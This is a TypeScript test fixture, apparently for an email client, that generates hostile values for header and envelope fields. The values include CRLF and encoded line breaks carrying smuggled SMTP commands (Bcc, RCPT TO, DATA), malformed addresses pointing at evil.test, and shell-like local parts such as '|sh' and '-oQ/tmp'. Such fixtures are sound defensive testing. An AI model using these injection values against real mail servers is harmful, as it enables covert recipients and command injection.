import type { InnerMessage } from '../../../src/main/mime/index.ts'
import { people } from '../../../e2e/lab/index.ts'

/** One hostile value in one field of an otherwise ordinary letter. */
export type Probe = {
  readonly field: string
  readonly value: string
  readonly message: InnerMessage
  /** Where the letter goes: the envelope. */
  readonly to: readonly string[]
}

const { rivera, maria, daniel } = people

export const ordinary: InnerMessage = {
  from: { name: 'Elena Rivera', address: rivera.address },
  to: [{ name: 'Maria Alvarez', address: maria.address }],
  cc: [{ name: 'Daniel Ortiz', address: daniel.address }],
  subject: 'Tuesday',
  date: '2026-11-20T10:00:00Z',
  messageId: '<m1@hope-practice.test>',
  inReplyTo: '<m0@mail.test>',
  references: ['<m0@mail.test>'],
  text: 'See you on Tuesday.',
  html: null,
  attachments: [{ fileName: 'diary.txt', contentType: 'text/plain', bytes: Buffer.from('7 hours') }],
}

/** Line ends, what has been taken for one by some server or library, and what looks like one. */
const breaks = ['\r\n', '\r', '\n', '\n\r', '\r\n ', '\0', '\u2028', '\u2029', '\u0085', '\v', '\f', '\r\0\n']
/** The same, written so that something on the way may decode them. */
const disguised = [
  '%0d%0a',
  '\\r\\n',
  '=0D=0A',
  '&#13;&#10;',
  '=?utf-8?Q?=0D=0A?=',
  '\u240d\u240a',
  '嘊嘍',
  '+AA0ACg-',
]
const commands = [
  'Bcc: victim@evil.test',
  '\r\nRCPT TO:<victim@evil.test>',
  '.\r\nMAIL FROM:<x@evil.test>\r\nRCPT TO:<victim@evil.test>\r\nDATA\r\nSubject: x\r\n\r\nx\r\n.',
]
/** Text that means something to one of the languages that a field passes through. */
const texts = [
  '"Maria" <victim@evil.test>, x',
  'Maria>, <victim@evil.test',
  'Maria (victim@evil.test)',
  'friends: victim@evil.test;',
  '=?utf-8?B?DQpCY2M6IHZpY3RpbUBldmlsLnRlc3Q=?=',
  '=?utf-8?Q?a?= <victim@evil.test>',
  '\\',
  '"',
  'x'.repeat(2000),
  ' '.repeat(1200) + 'x',
  'Łukasz \u202E moc.live',
  '.',
  '\ud800',
  'QUIT',
  'From: victim@evil.test',
]
/** Addresses that programs have disagreed about, each with an extra reader, host or command in it. */
const addresses = [
  '"victim@evil.test"@mail.test',
  '"a\\"b"@mail.test',
  '"a b"@mail.test',
  '"x>,<victim@evil.test"@mail.test',
  'victim%evil.test@mail.test',
  'evil.test!victim@mail.test',
  '@evil.test,@mail.test:maria.alvarez@mail.test',
  '@evil.test:maria.alvarez@mail.test',
  'friends: victim@evil.test, maria.alvarez@mail.test;',
  'undisclosed-recipients:;',
  'maria.alvarez@mail.test, victim@evil.test',
  'maria.alvarez@mail.test; victim@evil.test',
  'maria.alvarez@mail.test victim@evil.test',
  'maria.alvarez@mail.test> BODY=8BITMIME',
  'maria.alvarez@mail.test> NOTIFY=SUCCESS',
  'maria.alvarez@mail.test>\r\nRCPT TO:<victim@evil.test',
  '<maria.alvarez@mail.test>',
  'maria.alvarez@mail.test\u0000@evil.test',
  'maria.alvarez@mail.test(comment)',
  '(victim@evil.test)maria.alvarez@mail.test',
  'maria.alvarez@@evil.test',
  'maria.alvarez@evil.test@mail.test',
  'maria.alvarez@[127.0.0.1]',
  'maria.alvarez@127.0.0.1',
  'maria.alvarez@localhost',
  'maria.alvarez@mail.test.',
  'maria..alvarez@mail.test',
  '.maria@mail.test',
  'maria.@mail.test',
  'maría.alvarez@mail.test',
  'maria.alvarez@мail.test',
  'maria.alvarez@ｍail.test',
  'maria.alvarez＠mail.test',
  'maria\u200b.alvarez@mail.test',
  'maria.alvarez@mail\u3002test',
  '-oQ/tmp@mail.test',
  '|sh@mail.test',
  '/etc/passwd@mail.test',
  'RCPT@mail.test',
  'quit@mail.test',
  `${'x'.repeat(65)}@mail.test`,
  `x@${'a.'.repeat(130)}test`,
  '',
  '@',
  ' ',
  '<>',
  '=?utf-8?Q?victim=40evil.test?=@mail.test',
  'maria.alvarez@mail.test?bcc=victim@evil.test',
  'mailto:maria.alvarez@mail.test',
  'maria.alvarez@xn--.test',
]

type Field = { readonly name: string; readonly put: (value: string) => Omit<Probe, 'field' | 'value'> }

const envelope = [maria.address, daniel.address]
const inMessage = (name: string, change: (value: string) => Partial<InnerMessage>): Field => ({
  name,
  put: (value) => ({ message: { ...ordinary, ...change(value) }, to: envelope }),
})

const textFields: readonly Field[] = [
  inMessage('Subject', (subject) => ({ subject })),
  inMessage('From name', (name) => ({ from: { ...ordinary.from, name } })),
  inMessage('To name', (name) => ({ to: [{ name, address: maria.address }] })),
  inMessage('Cc name', (name) => ({ cc: [{ name, address: daniel.address }] })),
  inMessage('file name', (fileName) => ({
    attachments: [{ fileName, contentType: 'text/plain', bytes: Buffer.from('x') }],
  })),
]
const idFields: readonly Field[] = [
  inMessage('Message-ID', (value) => ({ messageId: `<m1${value}@hope-practice.test>` })),
  inMessage('In-Reply-To', (value) => ({ inReplyTo: `<m0${value}@mail.test>` })),
  inMessage('References', (value) => ({ references: ['<m0@mail.test>', `<m0${value}@mail.test>`] })),
]
const addressFields: readonly Field[] = [
  {
    name: 'To',
    put: (address) => ({
      message: { ...ordinary, to: [{ name: '', address }] },
      to: [address, daniel.address],
    }),
  },
  {
    name: 'Cc',
    put: (address) => ({
      message: { ...ordinary, cc: [{ name: '', address }] },
      to: [maria.address, address],
    }),
  },
  // A copy of its own: the address stands in the envelope alone.
  { name: 'Bcc', put: (address) => ({ message: { ...ordinary, to: [], cc: [] }, to: [address] }) },
]

const probesOf = (fields: readonly Field[], values: readonly string[]): Probe[] =>
  fields.flatMap(({ name, put }) => values.map((value) => ({ field: name, value, ...put(value) })))

const broken = breaks.flatMap((lineBreak) => commands.map((command) => `a${lineBreak}${command}`))
const encoded = disguised.map((lineBreak) => `a${lineBreak}${commands[0] ?? ''}`)

/** Every hostile value in every field where it could come from a person, an address book or a received mail. */
export const probes: readonly Probe[] = [
  ...probesOf([...textFields, ...idFields], [...broken, ...encoded, ...texts]),
  ...probesOf(addressFields, [...addresses, ...breaks.map((each) => `maria${each}x@mail.test`)]),
]
